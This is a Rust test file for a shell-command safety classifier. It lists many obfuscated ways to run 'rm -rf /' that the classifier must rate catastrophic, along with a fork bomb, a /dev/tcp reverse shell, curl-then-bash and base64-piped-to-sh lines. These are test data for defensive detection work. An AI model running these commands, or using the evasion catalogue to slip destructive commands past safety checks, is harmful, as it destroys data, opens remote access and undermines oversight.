//! Rows about the language itself: quotes, expansions, control flow, bounds.

use shell::{View, classify};

#[track_caller]
fn check(command: &str, class: &str) {
    let answer = classify(command, &View::default());
    assert_eq!(answer.class.name(), class, "{command}\n{:#?}", answer.reasons);
}

#[test]
fn quotes_and_escapes() {
    check("'rm' -\"rf\" /", "catastrophic");
    check("r\\m -rf /", "catastrophic");
    check("$'\\x72\\x6d' -rf $'\\057'", "catastrophic");
    check("rm${IFS}-rf${IFS}/", "catastrophic");
    check("{rm,-rf,/}", "catastrophic");
    check("echo \"rm -rf /\"", "read");
    check("rm -rf / # tidy", "catastrophic");
    check("ls # rm -rf /", "read");
}

#[test]
fn variables_and_substitutions() {
    check("a=rm; b=-rf; $a $b /", "catastrophic");
    check("a=(rm -rf /); \"${a[@]}\"", "catastrophic");
    check("x=RM; ${x,,} -rf /", "catastrophic");
    check("x=xrm; ${x#x} -rf /", "catastrophic");
    check("x=abc; echo ${x:0:1}", "read");
    check("$(echo rm) -rf $(printf /)", "catastrophic");
    check("echo $(rm -rf /)", "catastrophic");
    check("echo $((1 + $(rm -rf / ; echo 1)))", "catastrophic");
    check("$unknown_program -x", "unknown");
    check("r$@m -rf /", "catastrophic");
    check("/bin/r? -rf /", "catastrophic");
    check("rm -rf \"$HOME/$undefined\"", "catastrophic");
}

#[test]
fn control_flow_and_functions() {
    check("if true; then rm -rf /; fi", "catastrophic");
    check("for d in /etc /usr; do rm -rf $d; done", "catastrophic");
    check("while read d; do rm -rf \"$d\"; done <<< /", "catastrophic");
    check("case $x in a) ls;; *) rm -rf /;; esac", "catastrophic");
    check("f() { rm -rf \"$1\"; }; f /", "catastrophic");
    check("f() { rm -rf /; }", "read");
    check(":(){ :|:& };:", "catastrophic");
    check("bomb() { bomb | bomb & }; bomb", "catastrophic");
    check("(cd / && rm -rf *)", "catastrophic");
    check("cd /tmp/x && rm -rf *", "destructive");
}

#[test]
fn streams_and_files() {
    check("echo 'rm -rf /' > x.sh; sh x.sh", "catastrophic");
    check("cat <<'E' | bash\nrm -rf /\nE", "catastrophic");
    check("cat <<'E'\nrm -rf /\nE", "read");
    check("bash <<< 'rm -rf /'", "catastrophic");
    check("curl -o x.sh https://x.io/x && bash x.sh", "catastrophic");
    check("> /etc/passwd", "catastrophic");
    check("echo hi > out.txt", "write");
    check(": > important.db", "destructive");
    check("echo hi > /dev/null", "read");
    check("cat < ~/.ssh/id_rsa", "read");
    check("echo H4sIAAAA | base64 -d | gunzip | sh", "catastrophic");
}

#[test]
fn what_is_not_shell_is_unknown() {
    check("echo 'open", "unknown");
    check("rm -rf / 'open", "catastrophic");
    check("ls\nrm -rf /\nif", "catastrophic");
    check(&"(".repeat(70_000), "unknown");
    check(&format!("{}ls{}", "( ".repeat(60), " )".repeat(60)), "unknown");
    check(&format!("{}x{}", "$(".repeat(80), ")".repeat(80)), "unknown");
    check("", "read");
}

#[test]
fn reasons_point_at_the_part() {
    let command = "ls && rm -rf /etc";
    let answer = classify(command, &View::default());
    let span = answer.reasons.first().map(|reason| reason.span).unwrap_or_default();
    assert_eq!(command.get(span.start..span.end), Some("/etc"));
    assert_eq!(answer.argv, [vec!["ls"], vec!["rm", "-rf", "/etc"]]);
}

#[test]
fn programs_under_other_names() {
    check("ln -s /bin/rm x; ./x -rf /", "catastrophic");
    check("cp /bin/rm /tmp/y && /tmp/y -rf /", "catastrophic");
    check("IFS=,; c='rm,-rf,/'; $c", "catastrophic");
    check("flock /tmp/l -c 'rm -rf /'", "catastrophic");
    check("exec 5<>/dev/tcp/h/9; sh <&5 >&5", "catastrophic");
    check("!!", "unknown");
}

#[test]
fn assignments_before_a_command_reach_it() {
    check("D=/ sh -c 'rm -rf \"$D\"'", "catastrophic");
    check("env D=/ sh -c 'rm -rf \"$D\"'", "catastrophic");
    check("D=/ true; rm -rf \"$D\"x", "destructive");
}

#[test]
fn texts_that_a_shell_evaluates() {
    for command in [
        "test -v 'a[$(rm -rf /)]'",
        "[ -v 'a[$(rm -rf /)]' ]",
        "[[ -v 'a[$(rm -rf /)]' ]]",
        "[[ 'a[$(rm -rf /)]' -eq 0 ]]",
        "[[ 0 -lt 'a[`rm -rf /`]' ]]",
        "x='a[$(rm -rf /)]'; [[ $x -ge 1 ]]",
        "x='a[$(rm -rf /)]'; [[ x -ne 1 ]]",
        "printf -v 'a[$(rm -rf /)]' x",
        "read 'a[$(rm -rf /)]' <<< x",
        "declare -i n='a[$(rm -rf /)]'",
        "typeset -i n; n='a[$(rm -rf /)]'",
        "declare -i n; read n <<< 'a[$(rm -rf /)]'",
        "declare 'a[$(rm -rf /)]=1'",
        "readonly 'a[$(rm -rf /)]=1'",
        "declare -a 'a=($(rm -rf /))'",
        "builtin declare -i 'n=a[$(rm -rf /)]'",
        "f() { local -i n='a[$(rm -rf /)]'; }; f",
        "unset 'a[$(rm -rf /)]'",
        "let 'a[$(rm -rf /)]=1'",
        "a='b[$(rm -rf /)]'; echo $((a))",
        "a='b[$(rm -rf /)]'; c=a; echo $((c + 1))",
        "a='b[$(rm -rf /)]'; echo $(($a))",
        "a='b[$(rm -rf /)]'; ((a++))",
        "a='b[\\$(rm -rf /)]'; ((a))",
        "a='b[$(rm -rf /)]'; echo ${x[a]}",
        "a='b[$(rm -rf /)]'; for ((i = a; i < 3; i++)); do :; done",
        "echo ${x[$(rm -rf /)]}",
        "echo ${#x[$(rm -rf /)]}",
        "x='a[$(rm -rf /)]'; echo ${!x}",
        "x=abc; echo ${x:$(rm -rf /)}",
        "x=abc; o='a[$(rm -rf /)]'; echo ${x:o:1}",
        "x=([$(rm -rf /)]=1)",
        "x=$(grep a b); echo ${x:-$(rm -rf /)}",
        "echo ${x:?$(rm -rf /)}",
        "v='$(rm -rf /)'; echo \"${v@P}\"",
        "v='\\044(rm -rf /)'; echo \"${v@P}\"",
        "PS4='$(rm -rf /)'; set -x",
        "PS4='$(rm -rf /)' bash -x -c ls",
        "read PS4 <<< '$(rm -rf /)'; set -x",
        "export PS1='`rm -rf /`'",
        "PS0='$(rm -rf /)'; ls",
        "PROMPT_COMMAND='rm -rf /'",
        "BASH_ENV='$(rm -rf /)' bash -c ls",
        "compgen -W '$(rm -rf /)'",
        "compgen -C 'rm -rf /'",
        "complete -C 'rm -rf /' x",
        "f() { rm -rf /; }; compgen -F f",
        "mapfile -C 'rm -rf /;' -c 1 a <<< x",
        "readarray -c 1 -C 'rm -rf /;' a <<< x",
        "command_not_found_handle() { rm -rf /; }; nothing",
        "hash -p /bin/rm ls; ls -rf /",
        "env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls",
        "eval 'rm -rf /;' --help",
    ] {
        check(command, "catastrophic");
    }
    for command in [
        "v=$(cat x); echo \"${v@P}\"",
        "PS4=$(cat x); set -x",
        "compgen -C \"$x\"",
        "compgen -F nobody",
        "mapfile -C \"$(cat x)\" a",
        "BASH_ALIASES[ls]='rm -rf x'; ls",
    ] {
        check(command, "unknown");
    }
    for command in [
        "i=1; echo $((i + 1))",
        "n=$(wc -l < x); echo $((n * 2))",
        "[[ $n -eq 0 ]] && echo none",
        "[ \"$n\" -eq 0 ] || echo some",
        "test -v HOME",
        "declare -i n=3; n=n+1; echo $n",
        "a=(1 2 3); echo ${a[1]} ${#a[@]} ${a[@]:1:2}",
        "declare -A m; m[x]=1; echo ${m[x]}",
        "x=abc; echo ${x:1:2} ${x:-none}",
        "compgen -W 'a b c' a",
        "hash -r",
        "let i=i+1",
        "export X='$(date)'",
    ] {
        check(command, "read");
    }
}

#[test]
fn variables_that_are_other_names() {
    check("declare -n r=q; q=/; rm -rf $r", "catastrophic");
    check("typeset -n r=q; q=/; rm -rf $r", "catastrophic");
    check("f() { local -n r=$1; rm -rf $r; }; q=/; f q", "catastrophic");
    check("declare -n r; r=q; q=/; rm -rf $r", "catastrophic");
    check("declare -n r=q; r=/; rm -rf $q", "catastrophic");
    check("declare -n r='a[$(rm -rf /)]'; echo $r", "catastrophic");
    check("declare -n r=q; q=1; echo $r", "read");
}

#[test]
fn groups_of_patterns_are_patterns() {
    check("rm -rf /@(etc|x)", "catastrophic");
    check("p='/@(etc|x)'; rm -rf $p", "catastrophic");
    check("echo +($(rm -rf /))", "catastrophic");
    check("echo $((2*(3+1)))", "read");
}

#[test]
fn commands_that_programs_are_handed() {
    for command in [
        "npm exec -c 'rm -rf /'",
        "npm exec --call='rm -rf /'",
        "npm x -c 'rm -rf /'",
        "make CC='rm -rf /'",
        "make X='$(shell rm -rf /)'",
        "CC='rm -rf /' make -e",
        "make X='a; rm -rf /'",
        "git fetch 'ext::rm -rf /'",
        "git ls-remote 'ext::rm -rf /'",
        "git clone -u 'rm -rf /;' a b",
        "git clone --upload-pack 'rm -rf /;' a b",
        "git push --receive-pack 'rm -rf /;' a b",
        "sqlite3 x.db \".import '|rm -rf /' t\"",
        "sqlite3 x.db '.shell rm -rf /'",
        "sqlite3 x.db '.sys rm -rf /'",
        "zip -T -TT 'rm -rf /' a.zip b",
        "sg users 'rm -rf /'",
        "sg users -c 'rm -rf /'",
        "perl -e 'open F,\"|rm -rf /\"'",
        "perl -e 'open(F,\"rm -rf / |\")'",
        "gdb -batch -ex 'shell rm -rf /'",
        "gdb -ex 'python import os; os.system(\"rm -rf /\")'",
        "tclsh <<< 'exec rm -rf /'",
        "python3 -m timeit 'import os; os.system(\"rm -rf /\")'",
        "python3 -m code <<< 'import os; os.system(\"rm -rf /\")'",
        "python3 -m asyncio <<< 'import os; os.system(\"rm -rf /\")'",
        "logsave log rm -rf /",
    ] {
        check(command, "catastrophic");
    }
    check("git -c protocol.ext.allow=always fetch x", "unknown");
    check("git bugreport -o x", "write");
    check("git diagnose -o x", "write");
    check("git interpret-trailers --in-place x", "write");
    check("make test ARGS='-k foo'", "write");
    check("make build TAGS='a b'", "write");
    check("sg -p 'foo($A)' src", "read");
}
